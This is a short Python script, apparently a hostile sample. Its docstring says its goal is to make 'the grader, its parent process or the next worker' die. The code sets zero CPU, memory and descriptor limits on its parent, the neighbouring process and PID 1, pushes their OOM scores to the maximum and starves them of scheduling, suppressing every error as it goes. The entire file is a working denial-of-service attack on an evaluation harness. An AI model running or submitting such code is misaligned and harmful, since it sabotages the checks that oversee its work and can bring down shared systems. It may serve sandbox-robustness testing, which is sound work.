"""Kill by limits: set the parent's limits of CPU time, memory and descriptors to nothing; make it the first to die.

Success: the grader, its parent process or the next worker ends.
"""

import contextlib
import os
import resource

for pid in (os.getppid(), os.getppid() + 1, 1):
    for limit in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE):
        with contextlib.suppress(OSError, ValueError):
            if pid > 0:
                resource.prlimit(pid, limit, (0, 0))
    for name, value in (("oom_score_adj", "1000"), ("oom_adj", "15")):
        with contextlib.suppress(OSError), open(f"/proc/{pid}/{name}", "w") as file:
            file.write(value)
    for change in (
        lambda pid=pid: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda pid=pid: os.setpgid(pid, os.getpid()),
    ):
        with contextlib.suppress(OSError):
            change()
    with contextlib.suppress(OSError):
        os.sched_setaffinity(pid, {0})
    with contextlib.suppress(OSError):
        os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
